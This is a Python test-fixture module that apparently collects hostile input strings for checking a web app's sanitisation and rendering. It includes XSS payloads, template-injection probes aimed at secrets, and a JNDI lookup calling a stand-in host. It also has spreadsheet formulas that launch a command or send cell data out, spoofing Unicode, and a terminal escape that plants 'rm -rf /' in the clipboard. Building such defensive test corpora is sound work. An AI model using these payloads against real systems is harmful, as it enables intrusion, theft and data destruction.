"""Text as somebody writes it who wants to break in, to deceive or to break the page. One corpus for every way in.

Each payload says in `MARK` form what it would do if it worked: set `window.breached`, show a dialog, call out, leave
its place, or turn the words after it around.
"""

from dataclasses import dataclass
from enum import StrEnum

GLOBAL = "breached"  # what the scripts below would plant in the window
ELSEWHERE = "https://elsewhere.invalid"
_DO = f"window.{GLOBAL}=1;alert(1)"
ESC, BELL, CSI, BACK = "\x1b", "\x07", "\x9b", "\x08"


class Sort(StrEnum):
    SCRIPT = "script"
    TEMPLATE = "template"
    FORMULA = "formula"
    BIDI = "bidi"
    INVISIBLE = "invisible"
    LOOKALIKE = "lookalike"
    GIANT = "giant"
    TERMINAL = "terminal"


@dataclass(frozen=True, slots=True)
class Payload:
    name: str
    sort: Sort
    text: str


SCRIPTS = {
    "script": f"<script>{_DO}</script>",
    "closed script": f"</script><script>{_DO}</script>",
    "closed title": f"</title></textarea></style><script>{_DO}</script>",
    "image": f'<img src=x onerror="{_DO}">',
    "out of an attribute": f'"><img src=x onerror={_DO}>',
    "out of a single quote": f"' autofocus onfocus='{_DO}' x='",
    "out of a double quote": f'" autofocus onfocus="{_DO}" x="',
    "svg": f"<svg/onload={_DO}>",
    "svg in a template": f"<template><svg onload={_DO}></svg></template>",
    "details": f"<details open ontoggle={_DO}>x</details>",
    "math": f"<math><mi//xlink:href='data:x,<script>{_DO}</script>'>",
    "mutating": f'<noscript><p title="</noscript><img src=x onerror={_DO}>">',
    "frame": f'<iframe srcdoc="<script>parent.{GLOBAL}=1</script>"></iframe>',
    "link": f'<a id="hostile-link" href="javascript:{_DO}">javascript:{_DO}</a>',
    "link with a break": f'<a href="java\tscript:{_DO}">x</a>',
    "base": f'<base href="{ELSEWHERE}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    "form": f'<form action="{ELSEWHERE}/"><button formaction="{ELSEWHERE}/">Sign in again</button></form>',
    "style": "<style>*{display:none!important}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:red">x</p>',
    "htmx": f'<p hx-get="{ELSEWHERE}/" hx-trigger="load" hx-on::load="{_DO}">x</p>',
    "htmx values": f"<p hx-post=/ hx-trigger=load hx-vals='js:{{x:({_DO})}}'>x</p>",
    "out of band": '<div id="toasts" hx-swap-oob="true">Signed out: sign in again</div>',
    "entity": f"&lt;script&gt;{_DO}&lt;/script&gt;",
    "escape of json": f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e",
    "clobbering": '<img name="getElementById"><form id="toasts"><input name="attributes"></form>',
}
TEMPLATES = {
    "variable": "{{ settings.SECRET_KEY }}{{ request.user.password }}",
    "tag": "{% load static %}{% debug %}{% include 'base.html' %}",
    "comment": "{# {% endcomment %} #}",
    "jinja": "{{ 7*7 }}${7*7}#{7*7}<%= 7*7 %>",
    "format": "%s %(password)s {0.__class__.__init__.__globals__}",
    "log": "${jndi:ldap://elsewhere.invalid/a}",
}
FORMULAS = {
    "call": '=HYPERLINK("https://elsewhere.invalid/?x="&A1,"open")',
    "command": "=cmd|'/c calc'!A1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "blank": "  =1+1",
    "wide": "＝1+1",
    "wide at": "＠SUM(1)",
    "zero width": "\u200b=1+1",
    "mark of order": "\ufeff=1+1",
    "turned": "\u202e=1+1",
    "no break": "\u00a0=1+1",
    "quote": '","=1+1","',
    "line": 'a"\r\n=1+1,"b',
}
BIDI = {
    "override": "\u202etxet desrever\u202c",
    "override that never ends": "ann\u202e gnp.exe",
    "isolate that never ends": "\u2067ann\u2066 bob",
    "embedding": "\u202bann \u202abob",
    "closings": "ann\u2069\u2069\u202c\u202c bob",
    "marks": "ann\u200f!\u200e?\u061c.",
    "arabic": "\u0645\u0631\u062d\u0628\u0627 123 (abc)",
    "hebrew": "\u05e9\u05dc\u05d5\u05dd 123 (abc)",
}
INVISIBLE = {
    "zero width": "a\u200bd\u200cm\u200di\u2060n",
    "nothing but": "\u200b\u200b\u2060\ufeff\u3164",
    "tags": "ann" + "".join(chr(0xE0000 + ord(letter)) for letter in "hidden"),
    "soft hyphens": "call\u00adme\u00adnow",
    "line separators": "ann\u2028bob\u2029eve",
    "variation": "a\ufe0f\u034f\u115f\u17b4b",
    "lines": "\n\n\n\n\n\n\n\n" * 20 + "below",
}
LOOKALIKES = {
    "cyrillic": "\u0430dmin",
    "mathematical": "\U0001d41a\U0001d41d\U0001d426\U0001d422\U0001d427",
    "wide": "ａｄｍｉｎ",
    "ligature": "\ufb01ne \u0133s \ufdfa",
    "dotless": "adm\u0131n",
    "chat bubble": "Moderator: case closed ✔",
}
GIANTS = {
    "marks": "Z" + "\u0336\u0310\u0351\u035b\u0321\u0323\u0330" * 60 + "algo",
    "one long word": "x" * 3000,
    "one long bracket": "\ufdfd" * 120,
    "family": "\u200d".join("\U0001f468\U0001f469\U0001f467\U0001f466" * 40),
    "flags": "\U0001f1e6" * 301,
    "thai": "\u0e01" + "\u0e49" * 200,
    "no-break": "\u00a0".join("a" * 400),
    "emoji": "\U0001f600" * 800,
    "wide blanks": "a" + "\u3000" * 400 + "b",
    "cuneiform": "\U0001242b" * 60,
}
TERMINAL = {
    "red": f"{ESC}[31mred{ESC}[0m",
    "clear": f"{ESC}[2J{ESC}[H",
    "title": f"{ESC}]0;owned{BELL}",
    "link": f"{ESC}]8;;https://elsewhere.invalid{ESC}\\here{ESC}]8;;{ESC}\\",
    "clipboard": f"{ESC}]52;c;cm0gLXJmIC8={BELL}",
    "eight bits": f"{CSI}31m",
    "backspaces": f"harmful{BACK * 7}nothing",
    "another line": "ann\nerror: signed in as root",
    "over the line": "ann\rlevel=critical",
    "delete": "a\x7f\x85b",
}
_ALL = {
    Sort.SCRIPT: SCRIPTS,
    Sort.TEMPLATE: TEMPLATES,
    Sort.FORMULA: FORMULAS,
    Sort.BIDI: BIDI,
    Sort.INVISIBLE: INVISIBLE,
    Sort.LOOKALIKE: LOOKALIKES,
    Sort.GIANT: GIANTS,
    Sort.TERMINAL: TERMINAL,
}
CORPUS = [Payload(f"{sort}: {name}", sort, text) for sort, texts in _ALL.items() for name, text in texts.items()]


def of(*sorts: Sort) -> list[Payload]:
    return [payload for payload in CORPUS if payload.sort in sorts]


def everything(*, longest: int, sorts: tuple[Sort, ...] = tuple(Sort)) -> list[str]:
    """All payloads in texts of at most so many characters: as many in each as there is room for."""
    texts, room = [""], longest
    for payload in of(*sorts):
        part = f"{payload.text[:longest]} "
        if len(part) > room:
            texts.append("")
            room = longest
        texts[-1] += part[:longest]
        room -= len(part)
    return [text for text in texts if text]
